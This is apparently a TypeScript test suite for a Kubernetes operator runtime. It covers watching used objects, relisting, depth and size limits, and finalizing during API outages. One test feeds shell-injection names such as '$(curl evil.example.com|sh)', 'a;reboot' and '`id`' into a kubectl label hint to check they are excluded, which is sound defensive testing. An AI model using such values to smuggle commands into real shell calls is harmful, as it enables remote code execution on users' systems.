import assert from "node:assert/strict";
import type { ServerResponse } from "node:http";
import type { KubernetesObject } from "../../runtime/base/objects";
import type { KubernetesClient } from "../../runtime/kubernetes/client";
import { ApiError } from "../../runtime/kubernetes/errors";
import type { UsedNews } from "../../runtime/observe/news";
import { DirectUse } from "../../runtime/observe/uses/directUse";
import { gatherUsed, type UsedSource } from "../../runtime/observe/uses/used";
import { UsedObjects } from "../../runtime/observe/uses/usedObjects";
import type { Use } from "../../runtime/operator/definition";
import { eventually } from "../support/eventually";
import { failureOf } from "./support/failures";
import { observed, operator, widget } from "./support/objects";
import { json, refuse, TestApiServer } from "./support/testApiServer";

const GADGET = { apiVersion: "gadgets.example.com/v1", kind: "Gadget", plural: "gadgets" };
const NAME = { namespace: "shop", name: "g" };
const OPERATOR = operator({ uses: { gadget: { ...GADGET, name: "spec.gadget" } } });

/** Does something as if eleven seconds had passed. */
async function elevenSecondsLater(work: () => Promise<void>): Promise<void> {
  const now = performance.now.bind(performance);
  Object.defineProperty(performance, "now", { configurable: true, value: () => now() + 11_000 });
  await work().finally(() => Reflect.deleteProperty(performance, "now"));
}

describe("UsedObjects", () => {
  let api: TestApiServer;
  let client: KubernetesClient;
  let used: UsedObjects;
  let changes: UsedNews[];
  let interruptions: Error[];
  /** Whether the API server serves the kind. */
  let isServed: boolean;
  /** Whether it serves the kind in another version then. */
  let isInAnother: boolean;
  /** How requests about the kind fail, though Kubernetes' own API server answers. Undefined: they do not. */
  let failing: ((path: string, response: ServerResponse) => boolean) | undefined;
  /** Whether the objects of the kind are in namespaces. */
  let namespaced: boolean;
  /** The kind's path: nothing is at any other. */
  let plural: string;
  let watches: ServerResponse[];
  /** The object as the API server has it now, in JSON. Undefined: as it was. */
  let deep: string | undefined;

  const away = (response: ServerResponse) => {
    refuse(response, 503);
    return true;
  };

  beforeEach(async () => {
    [changes, watches, isServed, namespaced] = [[], [], true, true];
    [failing, deep, isInAnother] = [undefined, undefined, false];
    plural = "gadgets";
    api = await TestApiServer.start((call, response) => {
      const resources = [{ name: plural, kind: "Gadget", namespaced }];
      if (!isServed && isInAnother && call.path === "/apis/gadgets.example.com")
        return json(response, { versions: [{ groupVersion: "gadgets.example.com/v2" }] });
      if (!isServed && isInAnother && call.path === "/apis/gadgets.example.com/v2")
        return json(response, { resources });
      if (!isServed) return refuse(response, 404);
      if (failing?.(call.path, response)) return;
      const isOfGroup = call.path === "/apis/gadgets.example.com/v1";
      if (!isOfGroup && !call.path.split("/").includes(plural)) return refuse(response, 404);
      if (call.query.has("watch")) {
        response.writeHead(200).flushHeaders();
        return void watches.push(response);
      }
      if (isOfGroup) return json(response, { resources });
      const name = namespaced ? NAME : { name: NAME.name };
      const gadget = { metadata: { ...name, uid: "g-uid", resourceVersion: "4" }, spec: { size: 1 } };
      if (call.path.endsWith("/gadgets/g") && deep !== undefined)
        return void response.writeHead(200, { "content-type": "application/json" }).end(deep);
      if (call.path.endsWith(`/${plural}/g`)) return json(response, { ...GADGET, ...gadget });
      return json(response, { metadata: { resourceVersion: "5" }, items: [gadget] });
    });
    interruptions = [];
    client = api.client();
    used = new UsedObjects({
      client,
      operator: OPERATOR,
      emit: (news) => void changes.push(news as UsedNews),
      onInterruption: (_, error) => void interruptions.push(error),
      isActive: () => true,
      answersOthers: async () => true,
    });
    used.see({ namespace: "shop", name: "user" }, widget({ name: "user" }, { spec: { gadget: "g" } }));
  });
  afterEach(async () => {
    await used.stopWatching();
    await api.stop();
  });

  it("are never given in an older state, though the new one is too deep to be given at all", async () => {
    await used.startWatching();
    await eventually(() => assert.equal(watches.length, 1));
    assert.deepEqual((await used.get("gadget", NAME))?.["spec"], { size: 1 });
    changes = [];
    const spec = `{"size":${'{"a":'.repeat(9_000)}2${"}".repeat(9_000)}}`;
    const metadata = { ...NAME, uid: "g-uid", resourceVersion: "6" };
    deep = JSON.stringify({ ...GADGET, metadata, spec: {} }).replace('"spec":{}', `"spec":${spec}`);
    watches[0]?.write(`{"type":"MODIFIED","object":${deep}}\n`);
    await eventually(() => assert.equal(changes.length, 1));
    assert.notDeepEqual(Object.keys(((await used.get("gadget", NAME))?.["spec"] ?? {}) as object).length, 0);
    const user = widget({ name: "user" }, { spec: { gadget: "g" } });
    const { reason, message } = await failureOf(() => gatherUsed(OPERATOR, user, "reconcile", used));
    assert.equal(reason, "UsedNotReadable");
    assert.match(message, /^uses\.gadget: .* nested too deeply/);
    assert.deepEqual((await gatherUsed(OPERATOR, user, "finalize", used)).used, { gadget: null });
  });

  it("are read for each request while no watch shows them: one that went may exist again, if etcd was restored", async () => {
    await used.startWatching();
    await eventually(() => assert.equal(watches.length, 1));
    const metadata = { ...NAME, uid: "g-uid", resourceVersion: "6" };
    watches[0]?.write(`${JSON.stringify({ type: "DELETED", object: { ...GADGET, metadata } })}\n`);
    await eventually(async () => assert.equal(await used.get("gadget", NAME), undefined));
    failing = (path, response) => {
      if (!path.endsWith("/gadgets")) return false;
      refuse(response, 503);
      return true;
    };
    for (const watch of watches) watch.end();
    await eventually(async () => assert.ok(await used.get("gadget", NAME)));
  });

  it("are read again if another object has taken the place of the one that a watch showed", async () => {
    await used.startWatching();
    deep = JSON.stringify({ ...GADGET, metadata: { ...NAME, uid: "other-uid", resourceVersion: "9" } });
    assert.equal((await used.get("gadget", NAME))?.metadata.uid, "other-uid");
  });

  it("wake who uses a kind that goes, though its watch ends without a word about the objects", async () => {
    await used.startWatching();
    assert.ok(await used.get("gadget", NAME));
    await eventually(() => assert.equal(watches.length, 1));
    changes = [];
    isServed = false;
    for (const watch of watches) watch.end();
    await eventually(() =>
      assert.deepEqual(
        changes.map(({ users }) => users),
        [["shop/user"]],
      ),
    );
    assert.equal((await used.problemOf("gadget", "shop"))?.kind, "missing");
    isServed = true;
    await eventually(() => assert.equal(changes.length, 2, "the kind exists again"));
    assert.equal(await used.problemOf("gadget", "shop"), undefined);
  });

  it("are not taken for gone because the cluster serves their kind in another version now", async () => {
    [isServed, isInAnother] = [false, true];
    await used.startWatching();
    const user = widget({ name: "user" }, { spec: { gadget: "g" } });
    for (const source of [used, new DirectUse(OPERATOR, client)]) {
      const { reason, message } = await failureOf(() => gatherUsed(OPERATOR, user, "reconcile", source));
      assert.equal(reason, "UsedNotReadable");
      assert.match(message, /in gadgets\.example\.com\/v2, .* Declare that version/);
    }
  });

  it("follow a kind that a user created again with another scope, and wake who uses it", async () => {
    await used.startWatching();
    assert.ok(await used.get("gadget", NAME));
    for (const isNamespaced of [false, true]) {
      changes = [];
      namespaced = isNamespaced;
      await used.resync();
      assert.ok(await used.get("gadget", NAME), `namespaced: ${isNamespaced}`);
      assert.deepEqual(
        changes.map(({ users }) => users),
        [["shop/user"]],
      );
      await eventually(() => assert.equal(watches.filter((watch) => !watch.destroyed).length, 1));
      const metadata = { ...(isNamespaced ? NAME : { name: "g" }), uid: "g-uid", resourceVersion: "6" };
      watches.at(-1)?.write(`${JSON.stringify({ type: "MODIFIED", object: { ...GADGET, metadata } })}\n`);
      await eventually(() => assert.equal(changes.length, 2));
    }
  });

  it("follow a kind whose path is gone, before the next full list", async () => {
    await used.startWatching();
    await eventually(() => assert.equal(watches.length, 1));
    changes = [];
    plural = "gizmos";
    for (const watch of watches) watch.end();
    await eventually(async () => {
      assert.equal(await used.problemOf("gadget", "shop"), undefined);
      assert.deepEqual((await used.get("gadget", NAME))?.["spec"], { size: 1 });
    });
    assert.ok(changes.every(({ users }) => users.includes("shop/user")));
    assert.ok(api.calls.some(({ path }) => path.endsWith("/gizmos/g")));
  });

  const cut = (response: ServerResponse) => {
    response.destroy();
    return true;
  };
  const ways: [what: string, failing: NonNullable<typeof failing>, said: RegExp][] = [
    ["no answer says how a kind is served", (_, response) => away(response), /503/],
    [
      "the lists of a kind get no answer",
      (path, response) => path.endsWith(`/${plural}`) && cut(response),
      /socket hang up/,
    ],
  ];
  for (const [what, way, said] of ways)
    it(`hold up a finalizing only for a while if ${what}, and tell who uses it`, async () => {
      failing = way;
      void used.startWatching();
      const user = widget({ name: "user" }, { spec: { gadget: "g" } });
      const gather = (event: "reconcile" | "finalize") => gatherUsed(OPERATOR, user, event, used);
      await eventually(() => assert.ok(interruptions.length > 0));
      // The API server may just be starting.
      await assert.rejects(gather("finalize"), /is being listed/);
      await elevenSecondsLater(async () => {
        const finalized = await eventually(() => gather("finalize"));
        assert.deepEqual(
          [finalized.used, finalized.warnings[0]?.reason],
          [{ gadget: null }, "UsedNotReadable"],
        );
        const { reason, message } = await failureOf(() => gather("reconcile"));
        assert.equal(reason, "UsedNotReadable");
        assert.match(message, /^uses\.gadget: Gadget cannot be listed: .* Repair what serves this kind/);
        assert.match(message, said);
      });
      failing = undefined;
      await eventually(async () => assert.ok((await gather("reconcile")).used["gadget"]));
      assert.ok(changes.some(({ users }) => users.includes("shop/user")));
    });
});

const CONFIG_MAP = { apiVersion: "v1", kind: "ConfigMap", plural: "configmaps" };

describe("gatherUsed", () => {
  /** How often the source was asked for an object. */
  let reads: number;
  const source = (found?: KubernetesObject): UsedSource => ({
    problemOf: async () => undefined,
    get: async () => {
      reads++;
      return found;
    },
    list: async () => {
      reads++;
    },
  });
  const mounting = (use: object) => operator({ uses: { mounts: { ...CONFIG_MAP, ...use } } });
  const gather = (
    use: Partial<Use>,
    list: string[],
    event: "reconcile" | "finalize",
    found?: KubernetesObject,
  ) => gatherUsed(mounting(use), widget({}, { spec: { list } }), event, source(found));
  beforeEach(() => {
    reads = 0;
  });

  for (const use of [{ name: "spec.list[*]" }, { labels: { team: "spec.list[*]" } }]) {
    it(`reads nothing of more than 500 that an object names by ${Object.keys(use)}, and does not keep it from going`, async () => {
      const list = Array.from({ length: 501 }, (_, index) => `name-${index}`);
      const { reason, message } = await failureOf(() => gather(use, list, "reconcile"));
      assert.equal(reason, "UsedNotReadable");
      assert.match(message, /^uses\.mounts: the object names more than 500 objects, or values of a label\./);
      const { used, warnings } = await gather(use, list, "finalize");
      assert.deepEqual([used, warnings], [{ mounts: [] }, [{ reason: "UsedNotReadable", note: message }]]);
      assert.equal(reads, 0);
      await gather(use, list.slice(1), "reconcile");
      assert.ok(reads > 0);
    });
  }

  for (const use of [{ name: "spec.list[*]" }, { labels: { team: "spec.list[*]" } }])
    it(`asks for no kind of which an object refers to nothing by ${Object.keys(use)}`, async () => {
      const uses = { mounts: { ...CONFIG_MAP, ...use } };
      const problemOf = async () => assert.fail("the kind cannot be read");
      const object = widget({}, { spec: { list: [] } });
      const gathered = await gatherUsed({ ...OPERATOR, uses }, object, "reconcile", {
        ...source(),
        problemOf,
      });
      assert.deepEqual(gathered, { used: { mounts: [] }, warnings: [], secrets: [] });
    });

  it("tells how to label the Secrets that are not given, and puts no other text of an object into that command", async () => {
    const SECRET = { apiVersion: "v1", kind: "Secret", plural: "secrets" };
    const noteOf = async (...list: string[]) =>
      (await gather({ ...SECRET, name: "spec.list[*]" }, list, "reconcile")).warnings[0]?.note ?? "";
    const command = /kubectl -n shop label secret ([^`]+) argosy\.dev\/used-by=argosy\.shop\./;
    assert.equal(command.exec(await noteOf("one", "two.three"))?.[1], "one two.three");
    const evil = ["$(curl evil.example.com|sh)", "--all", "-n", "a;reboot", "a b", "`id`", "Upper", "~", "*"];
    const note = await noteOf("one", ...evil);
    assert.equal(command.exec(note)?.[1], "one");
    for (const name of evil) assert.ok(note.includes(` shop/${name}`), name);
    const other = await noteOf(...evil);
    assert.doesNotMatch(other, /kubectl/);
    assert.match(other, /argosy\.dev\/used-by=argosy\.shop/);
  });

  it("fails if all of it is larger than 8 MiB, and does not keep an object from going", async () => {
    const large = observed("ConfigMap", { data: { text: "x".repeat(1024 * 1024) } }, { name: "a" });
    const list = Array.from({ length: 9 }, (_, index) => `name-${index}`);
    const use = { name: "spec.list[*]" };
    const { reason, message } = await failureOf(() => gather(use, list, "reconcile", large));
    assert.equal(reason, "UsedNotReadable");
    const { used, warnings } = await gather(use, list, "finalize", large);
    assert.deepEqual([used, warnings.map(({ note }) => note)], [{ mounts: [] }, [message]]);
    assert.equal((await gather(use, list.slice(2), "reconcile", large)).warnings.length, 0);
    // Each of these characters has three bytes.
    const wide = observed("ConfigMap", { data: { text: "語".repeat(400_000) } }, { name: "a" });
    assert.equal((await failureOf(() => gather(use, list, "reconcile", wide))).reason, "UsedNotReadable");
    assert.equal((await gather(use, list.slice(3), "reconcile", wide)).warnings.length, 0);
  });

  describe("of objects that are long, however many an object refers to,", () => {
    const large = observed("ConfigMap", { data: { text: "x".repeat(1024 * 1024) } });
    const list = Array.from({ length: 500 }, (_, index) => `name-${index}`);
    const user = widget({}, { spec: { list } });

    it("reads no more by name than shows that they are too long, and few at once", async () => {
      let [reading, most] = [0, 0];
      const slow: UsedSource = {
        ...source(),
        get: async () => {
          reads++;
          most = Math.max(most, ++reading);
          await new Promise(setImmediate);
          reading--;
          return large;
        },
      };
      const gathering = gatherUsed(mounting({ name: "spec.list[*]" }), user, "reconcile", slow);
      assert.equal((await failureOf(() => gathering)).reason, "UsedNotReadable");
      assert.ok(reads <= 16 && most <= 8, `${reads} reads, ${most} at once`);
    });

    it("reads no more pages of a list than show that they are too long", async () => {
      let pages = 0;
      const client = {
        list: async (_: unknown, __: unknown, onPage: (items: KubernetesObject[]) => void) => {
          for (; pages < 500; pages++) onPage([large]);
        },
      } as unknown as KubernetesClient;
      const uses = mounting({ labels: { team: "'a'" } });
      const direct = new DirectUse(uses, client);
      const gathering = gatherUsed(uses, user, "reconcile", direct);
      assert.equal((await failureOf(() => gathering)).reason, "UsedNotReadable");
      assert.ok(pages < 9, `${pages} pages`);
    });

    it("gives those of another use, to finalize", async () => {
      const both = { ...mounting({ name: "spec.list[*]" }).uses, one: { ...CONFIG_MAP, name: "'one'" } };
      const small = observed("ConfigMap", { data: {} }, { name: "one" });
      const all: UsedSource = { ...source(), get: async (_, { name }) => (name === "one" ? small : large) };
      const { used } = await gatherUsed({ ...OPERATOR, uses: both }, user, "finalize", all);
      assert.deepEqual(used, { mounts: [], one: small });
    });
  });

  it("waits in a run for a while until the API server says how a kind is served, then says so or finalizes without it", async () => {
    const read = () => Promise.reject(new ApiError(503, { message: "service unavailable" }, "GET"));
    const uses = {
      metrics: { apiVersion: "metrics.k8s.io/v1beta1", kind: "PodMetrics", plural: "pods", name: "spec.pod" },
    };
    const operator = { ...OPERATOR, uses };
    const direct = new DirectUse(operator, { read } as unknown as KubernetesClient);
    const object = widget({}, { spec: { pod: "web" } });
    await assert.rejects(gatherUsed(operator, object, "finalize", direct), /service unavailable/);
    await elevenSecondsLater(async () => {
      const { reason, message } = await failureOf(() => gatherUsed(operator, object, "reconcile", direct));
      assert.equal(reason, "UsedNotReadable");
      assert.match(message, /^uses\.metrics: PodMetrics cannot be listed: .*service unavailable/);
      const { used, warnings } = await gatherUsed(operator, object, "finalize", direct);
      assert.deepEqual([used, warnings], [{ metrics: null }, [{ reason: "UsedNotReadable", note: message }]]);
    });
  });
});
